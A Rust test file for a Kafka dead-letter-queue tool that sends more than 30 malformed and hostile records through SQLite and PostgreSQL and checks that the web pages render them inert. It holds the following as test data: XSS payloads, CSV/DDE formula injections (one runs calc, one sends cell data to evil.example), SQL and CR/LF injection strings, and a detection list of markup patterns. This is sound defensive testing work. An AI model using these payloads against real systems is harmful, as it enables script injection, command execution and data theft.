//! Hostile and broken records, on both databases (issue 7, item 4).
//!
//! Over 30 kinds of record meant to break a DLQ tool (oversized indexed fields, 10,000
//! headers, a 64 KiB header name, an 8 MiB value, NULs, numeric headers of the wrong length,
//! extreme timestamps, markup and CSV formulas in every field, bidi and zero-width characters,
//! conflicting duplicate headers, two conventions on one record, ...) go through a real broker
//! into SQLite and into PostgreSQL. For each one: it is stored byte-exact (or, if the store
//! refused it, quarantined with its coordinates); it is listed; its detail page, rendered by
//! the real site router, answers 200 with no hostile markup live in the HTML. A sentinel
//! produced after all of them is ingested, so none stopped its partition.

use std::time::Duration;

use axum::body::Body;
use axum::http::{Request, StatusCode};
use axum::Router;
use redrive_testkit::ingest::{
    assert_stored_exactly, dead_letters_in, ingest_config, start_ingest,
};
use redrive_testkit::{
    create_topic, fresh_store, produce_with, producer, unique, wait_for, Backend, TestRecord,
};
use tower::ServiceExt;

use crate::site;

const SCRIPT: &str = "<script>alert(1)</script>";
const IMG: &str = "\"><img src=x onerror=alert(1)>";
const SVG: &str = "'><svg/onload=alert(1)>";
const JS_URL: &str = "javascript:alert(1)";
const FORMULAS: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
];

fn hostile_text() -> String {
    format!("{SCRIPT}{IMG}{SVG}{JS_URL}")
}

type Headers = Vec<(String, Option<Vec<u8>>)>;

fn h(name: &str, value: &[u8]) -> (String, Option<Vec<u8>>) {
    (name.to_string(), Some(value.to_vec()))
}

fn spring(topic: &[u8], class: &[u8], message: &[u8]) -> Headers {
    vec![
        h("kafka_dlt-original-topic", topic),
        h("kafka_dlt-original-partition", &3i32.to_be_bytes()),
        h("kafka_dlt-original-offset", &42i64.to_be_bytes()),
        h("kafka_dlt-original-consumer-group", b"orders-service"),
        h("kafka_dlt-exception-fqcn", class),
        h("kafka_dlt-exception-message", message),
    ]
}

fn record(key: &[u8], value: Option<Vec<u8>>, headers: Headers) -> TestRecord {
    TestRecord {
        key: Some(key.to_vec()),
        value,
        headers,
        partition: Some(0),
        timestamp_ms: None,
    }
}

/// Bytes that do not compress (so PostgreSQL cannot squeeze an index entry under its limit).
fn noise(n: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(n + 16);
    let mut x: u64 = 0x2545_F491_4F6C_DD1D;
    while out.len() < n {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        out.extend_from_slice(format!("{x:016x}").as_bytes());
    }
    out.truncate(n);
    out
}

/// Every hostile case: (name, record). The names only label failures.
fn cases() -> Vec<(&'static str, TestRecord)> {
    let bad = hostile_text();
    let b = bad.as_bytes();
    let v = |s: &str| Some(s.as_bytes().to_vec());
    let out: Vec<(&'static str, TestRecord)> = vec![
        (
            "oversized error class",
            record(b"c1", v("{}"), spring(b"orders", &noise(10_000), b"boom")),
        ),
        (
            "oversized error message",
            record(
                b"c2",
                v("{}"),
                spring(b"orders", b"com.example.Boom", &noise(1 << 20)),
            ),
        ),
        (
            "oversized source topic and group",
            record(b"c3", v("{}"), {
                let mut hs = spring(&noise(5_000), b"com.example.Boom", b"boom");
                hs[3] = h("kafka_dlt-original-consumer-group", &noise(5_000));
                hs
            }),
        ),
        (
            "oversized message id",
            record(
                b"c4",
                v("{}"),
                vec![
                    h("original_topic", b"orders"),
                    h("error", b"boom"),
                    h("message_id", &noise(5_000)),
                    h("consumer_group", &noise(4_000)),
                ],
            ),
        ),
        (
            "oversized stack trace",
            record(b"c5", v("{}"), {
                let mut hs = spring(b"orders", b"com.example.Boom", b"boom");
                hs.push(h("kafka_dlt-exception-stacktrace", &noise(4 << 20)));
                hs
            }),
        ),
        (
            "10,000 headers",
            record(
                b"c6",
                v("{}"),
                (0..10_000)
                    .map(|i| h(&format!("h{i}"), format!("{i}").as_bytes()))
                    .collect(),
            ),
        ),
        (
            "64 KiB header name",
            record(
                b"c7",
                v("{}"),
                vec![h(&"n".repeat(64 * 1024), b"x"), h("error", b"boom")],
            ),
        ),
        (
            "8 MiB value",
            record(
                b"c8",
                Some(noise(8 << 20)),
                spring(b"orders", b"com.example.Big", b"big"),
            ),
        ),
        (
            "1 MiB binary key",
            TestRecord {
                key: Some((0..(1 << 20)).map(|i| (i % 256) as u8).collect()),
                ..record(b"", v("{}"), vec![])
            },
        ),
        (
            "NULs everywhere",
            record(
                b"nul\0key\0",
                Some(b"\0\0value\0".to_vec()),
                vec![
                    h("kafka_dlt-original-topic", b"or\0ders"),
                    h("kafka_dlt-exception-fqcn", b"com.example\0.Nul"),
                    h("kafka_dlt-exception-message", b"\0"),
                    h("x-nul", b"\0"),
                ],
            ),
        ),
        (
            "numeric headers of the wrong length",
            record(
                b"c10",
                v("{}"),
                vec![
                    h("kafka_dlt-original-topic", b"orders"),
                    h("kafka_dlt-original-partition", &[0, 1, 2]),
                    h("kafka_dlt-original-offset", &[1, 2, 3, 4, 5]),
                    h("kafka_dlt-original-timestamp", &[0; 9]),
                    h("kafka_dlt-exception-fqcn", b"com.example.Boom"),
                ],
            ),
        ),
        (
            "numeric headers that are not numbers",
            record(
                b"c11",
                v("{}"),
                vec![
                    h("__connect.errors.topic", b"orders"),
                    h("__connect.errors.partition", b"abc"),
                    h("__connect.errors.offset", b"99999999999999999999999"),
                    h(
                        "__connect.errors.exception.class.name",
                        b"org.apache.kafka.connect.errors.DataException",
                    ),
                    h("original_topic", b"orders"),
                    h("retry_count", b"-1e99"),
                ],
            ),
        ),
        (
            "record timestamp i64::MAX",
            TestRecord {
                timestamp_ms: Some(i64::MAX),
                ..record(
                    b"c12",
                    v("{}"),
                    spring(b"orders", b"com.example.Late", b"late"),
                )
            },
        ),
        (
            "record timestamp 1 ms after the epoch",
            TestRecord {
                timestamp_ms: Some(1),
                ..record(
                    b"c13",
                    v("{}"),
                    spring(b"orders", b"com.example.Early", b"early"),
                )
            },
        ),
        (
            "extreme header timestamps",
            record(
                b"c14",
                v("{}"),
                vec![
                    h("kafka_dlt-original-topic", b"orders"),
                    h("kafka_dlt-original-timestamp", &i64::MIN.to_be_bytes()),
                    h("kafka_dlt-exception-fqcn", b"com.example.Boom"),
                    h("original_topic", b"orders"),
                    h("failed_at", b"+275760-09-13T00:00:00.001Z"),
                ],
            ),
        ),
        (
            "markup in key and value",
            record(b, Some(b.to_vec()), vec![h("error", b)]),
        ),
        (
            "markup in header names and values",
            record(
                b"c16",
                v("{}"),
                vec![h(&bad, b), h(&format!("x-{bad}"), b), (bad.clone(), None)],
            ),
        ),
        (
            "markup in every decoded field",
            record(b"c17", v(&bad), {
                let mut hs = spring(b, b, b);
                hs[3] = h("kafka_dlt-original-consumer-group", b);
                hs.push(h(
                    "kafka_dlt-exception-stacktrace",
                    format!("{bad}\n\tat {bad}").as_bytes(),
                ));
                hs
            }),
        ),
        ("CSV formulas in every field", {
            let f = FORMULAS.join(",");
            let mut hs = spring(f.as_bytes(), FORMULAS[0].as_bytes(), f.as_bytes());
            hs.extend(FORMULAS.iter().map(|x| h(x, x.as_bytes())));
            record(FORMULAS[1].as_bytes(), v(FORMULAS[2]), hs)
        }),
        ("bidi overrides", {
            let s = "orders\u{202e}TLD.\u{2066}evil\u{2069}\u{200f}";
            record(s.as_bytes(), v(s), {
                let mut hs = spring(s.as_bytes(), s.as_bytes(), s.as_bytes());
                hs.push(h(s, s.as_bytes()));
                hs
            })
        }),
        ("zero-width characters", {
            let s = "ord\u{200b}ers\u{feff}\u{200d}\u{2060}";
            record(
                s.as_bytes(),
                v(s),
                spring(
                    s.as_bytes(),
                    "com.example.Bo\u{200b}om".as_bytes(),
                    s.as_bytes(),
                ),
            )
        }),
        (
            "conflicting duplicate headers",
            record(
                b"c21",
                v("{}"),
                vec![
                    h("kafka_dlt-original-topic", b"orders"),
                    h("kafka_dlt-original-topic", b"payments"),
                    h("kafka_dlt-original-partition", &1i32.to_be_bytes()),
                    h("kafka_dlt-original-partition", &2i32.to_be_bytes()),
                    h("kafka_dlt-exception-fqcn", b"com.example.First"),
                    h("kafka_dlt-exception-fqcn", b"com.example.Second"),
                ],
            ),
        ),
        (
            "two conventions on one record",
            record(b"c22", v("{}"), {
                let mut hs = spring(b"orders", b"com.example.SpringSide", b"spring says");
                hs.extend([
                    h("__connect.errors.topic", b"payments"),
                    h(
                        "__connect.errors.exception.class.name",
                        b"org.apache.kafka.connect.errors.DataException",
                    ),
                    h("__connect.errors.exception.message", b"connect says"),
                ]);
                hs
            }),
        ),
        (
            "invalid UTF-8 in decoded fields",
            record(
                b"c23",
                v("{}"),
                spring(
                    &[0xff, 0xfe, b'x'],
                    &[0xc0, 0x80, b'A'],
                    &[0xed, 0xa0, 0x80, 0xed, 0xb0, 0x80],
                ),
            ),
        ),
        (
            "null-valued convention headers",
            record(
                b"c24",
                v("{}"),
                spring(b"x", b"x", b"x")
                    .into_iter()
                    .map(|(n, _)| (n, None))
                    .collect(),
            ),
        ),
        (
            "empty header name and empty values",
            record(
                b"",
                Some(vec![]),
                vec![
                    h("", b""),
                    h("", b"x"),
                    h("kafka_dlt-exception-fqcn", b""),
                    h("kafka_dlt-original-topic", b""),
                ],
            ),
        ),
        (
            "CR/LF injection",
            record(
                b"c26\r\nSet-Cookie: a=b",
                v("\r\n\r\n<html>"),
                spring(
                    b"orders\r\nX-Injected: 1",
                    b"com.example.Boom\r\n\r\n<b>",
                    b"line1\r\nline2\n\rline3",
                ),
            ),
        ),
        (
            "64 KiB single-line message",
            record(
                b"c27",
                v("{}"),
                spring(
                    b"orders",
                    b"com.example.Boom",
                    format!("{}{bad}", "W".repeat(64 * 1024)).as_bytes(),
                ),
            ),
        ),
        ("combining marks and astral characters", {
            let s = format!("Z{}🦀𝕏\u{10FFFF}", "\u{0336}\u{0489}".repeat(1000));
            record(
                s.as_bytes(),
                v(&s),
                spring(s.as_bytes(), s.as_bytes(), s.as_bytes()),
            )
        }),
        ("noncharacters", {
            let s = "\u{FFFE}\u{FFFF}\u{FDD0}\u{1FFFE}";
            record(
                s.as_bytes(),
                v(s),
                spring(s.as_bytes(), s.as_bytes(), s.as_bytes()),
            )
        }),
        ("SQL and JSON injection text", {
            let s = "'); DROP TABLE dead_letters; --\"}]\\u0000{\"name\":\"x\",\"value\":null}";
            record(s.as_bytes(), v(s), {
                let mut hs = spring(s.as_bytes(), s.as_bytes(), s.as_bytes());
                hs.push(h(s, s.as_bytes()));
                hs
            })
        }),
        (
            "deeply nested JSON value",
            record(
                b"c31",
                Some([b"[".repeat(100_000), b"]".repeat(100_000)].concat()),
                spring(b"orders", b"com.example.Deep", b"deep"),
            ),
        ),
        (
            "binary Java-serialized stack trace",
            record(b"c32", v("{}"), {
                let mut hs = spring(b"orders", b"com.example.Boom", b"boom");
                hs.push(h(
                    "kafka_dlt-exception-stacktrace",
                    &[0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0x00, 0xff, 0x00],
                ));
                hs
            }),
        ),
        (
            "tombstone with convention headers",
            record(
                b"c33",
                None,
                spring(b"orders", b"com.example.Gone", b"tombstone"),
            ),
        ),
        (
            "retry counts out of range",
            record(
                b"c34",
                v("{}"),
                vec![
                    h("original_topic", b"orders"),
                    h("retry_count", b"4294967296"),
                    h("kafka_original-topic", b"orders"),
                    h("retry_topic-attempts", &[0xff, 0xff, 0xff, 0xff]),
                    h("error", b"boom"),
                ],
            ),
        ),
        (
            "stack trace of 100,000 lines",
            record(b"c35", v("{}"), {
                let mut hs = spring(b"orders", b"com.example.Boom", b"boom");
                hs.push(h(
                    "kafka_dlt-exception-stacktrace",
                    "\tat a.B.c(B.java:1)\n".repeat(100_000).as_bytes(),
                ));
                hs
            }),
        ),
    ];
    out
}

/// Markup from the data must never appear as markup: neither as an element, an attribute
/// broken out of its quotes, nor a `javascript:` link.
fn assert_inert(page: &str, html: &str) {
    for raw in [
        "<script>alert(1)",
        "<img src=x",
        "<img src=\"x\"",
        "\"><img",
        "<svg/onload",
        "'><svg",
        "href=\"javascript:",
        "href='javascript:",
    ] {
        if let Some(at) = html.find(raw) {
            let start = html.floor_char_boundary(at.saturating_sub(100));
            let end = html.floor_char_boundary((at + 200).min(html.len()));
            panic!(
                "{page}: raw markup {raw:?} in the HTML: …{}…",
                &html[start..end]
            );
        }
    }
    for chunk in html.split("<script").skip(1) {
        let body = chunk.split("</script>").next().unwrap_or("");
        assert!(
            !body.contains("alert(1)"),
            "{page}: stored text inside a script"
        );
    }
}

async fn get(router: &Router, uri: &str) -> (StatusCode, String) {
    let render = async {
        let res = router
            .clone()
            .oneshot(Request::get(uri).body(Body::empty()).expect("request"))
            .await
            .expect("infallible");
        let status = res.status();
        let body = axum::body::to_bytes(res.into_body(), 256 * 1024 * 1024)
            .await
            .expect("body");
        (status, String::from_utf8_lossy(&body).into_owned())
    };
    tokio::time::timeout(Duration::from_secs(120), render)
        .await
        .unwrap_or_else(|_| panic!("GET {uri} did not complete within 120 s"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_records_are_stored_listed_and_rendered_inert_on_both_databases() {
    let cases = cases();
    assert!(cases.len() >= 30, "{} kinds", cases.len());
    let topic = unique("dlq_hostile");
    create_topic(
        &topic,
        1,
        &[
            ("max.message.bytes", "33554432"),
            // Kafka 4 refuses timestamps over an hour ahead by default.
            ("message.timestamp.after.max.ms", "9223372036854775807"),
        ],
    )
    .await
    .unwrap();
    let p = producer(&[("message.max.bytes", "33554432")]).unwrap();
    let mut positions = Vec::new();
    // One at a time, so a refusal names its case.
    for (name, r) in &cases {
        let pos = produce_with(&p, &topic, std::slice::from_ref(r))
            .await
            .unwrap_or_else(|e| panic!("producing {name:?}: {e:#}"));
        positions.push(pos[0]);
    }
    let sentinel = TestRecord {
        key: Some(b"sentinel".to_vec()),
        value: Some(b"after all of them".to_vec()),
        partition: Some(0),
        ..TestRecord::default()
    };
    produce_with(&p, &topic, std::slice::from_ref(&sentinel))
        .await
        .unwrap();
    let n = cases.len() as i64 + 1;

    for backend in Backend::ALL {
        let (store, _dir) = fresh_store(backend).await.unwrap();
        let ingest = start_ingest(&store, ingest_config(&[&topic], &unique("group")));
        // Every record is either a dead letter or quarantined; the sentinel is the last.
        wait_for(
            "every hostile record and the sentinel",
            Duration::from_secs(180),
            || {
                let store = store.clone();
                let topic = topic.clone();
                async move {
                    let stored = redrive_testkit::ingest::count_in(&store, &topic)
                        .await
                        .ok()?;
                    let quarantined = store.quarantine_count().await.ok()?;
                    (stored + quarantined >= n).then_some(())
                }
            },
        )
        .await
        .unwrap_or_else(|e| panic!("{backend:?}: {e:#}"));
        let snap = ingest.status.snapshot();
        assert!(snap.ready, "{backend:?}: {snap:?}");
        ingest.stop().await.unwrap();

        let stored = dead_letters_in(&store, &topic).await.unwrap();
        let quarantined = store.list_quarantine(500, None).await.unwrap();
        assert!(
            stored
                .iter()
                .any(|d| d.record.value.as_deref() == sentinel.value.as_deref()),
            "{backend:?}: the sentinel after the hostile records is stored"
        );
        let mut ids = Vec::new();
        for ((name, sent), (partition, offset)) in cases.iter().zip(&positions) {
            match stored
                .iter()
                .find(|d| d.record.dlq_partition == *partition && d.record.dlq_offset == *offset)
            {
                Some(d) => {
                    assert_stored_exactly(sent, &d.record);
                    ids.push((*name, d.summary.id));
                }
                None => {
                    let q = quarantined
                        .iter()
                        .find(|q| (q.dlq_partition, q.dlq_offset) == (*partition, *offset))
                        .unwrap_or_else(|| {
                            panic!("{backend:?}: {name:?} is neither stored nor quarantined")
                        });
                    eprintln!("{backend:?}: {name:?} quarantined: {}", q.error);
                }
            }
        }

        // Rendered by the real site router: listed, each detail page 200 and inert.
        let site_root = tempfile::tempdir().unwrap();
        let options = site::leptos_options(
            &site_root.path().display().to_string(),
            "127.0.0.1:0".parse().unwrap(),
        );
        let router = crate::support::site_router_as_admin(store.clone(), options);
        let (status, list) = get(&router, &format!("/?dlq_topic={topic}&limit=100")).await;
        assert_eq!(status, StatusCode::OK, "{backend:?}: list");
        assert_inert("list", &list);
        for (name, id) in &ids {
            assert!(
                list.contains(&format!("/dead-letters/{id}\"")),
                "{backend:?}: {name:?} (id {id}) is not listed"
            );
            let started = std::time::Instant::now();
            let (status, html) = get(&router, &format!("/dead-letters/{id}")).await;
            eprintln!(
                "{backend:?}: {name:?}: detail page {} bytes in {} ms",
                html.len(),
                started.elapsed().as_millis()
            );
            assert_eq!(status, StatusCode::OK, "{backend:?}: {name:?}");
            assert_inert(name, &html);
        }
        let (status, html) = get(&router, "/quarantine").await;
        assert_eq!(status, StatusCode::OK, "{backend:?}: quarantine page");
        assert_inert("quarantine", &html);
    }
}

#[test]
fn there_are_over_thirty_kinds() {
    let cases = cases();
    assert!(cases.len() >= 30);
    let names: std::collections::BTreeSet<_> = cases.iter().map(|(n, _)| *n).collect();
    assert_eq!(names.len(), cases.len(), "case names are distinct");
    // Every case is told apart by its key (the detail checks find them by coordinates, but a
    // failure message is easier to read with distinct keys).
    let keys: std::collections::BTreeSet<_> = cases.iter().map(|(_, r)| r.key.clone()).collect();
    assert_eq!(keys.len(), cases.len());
}
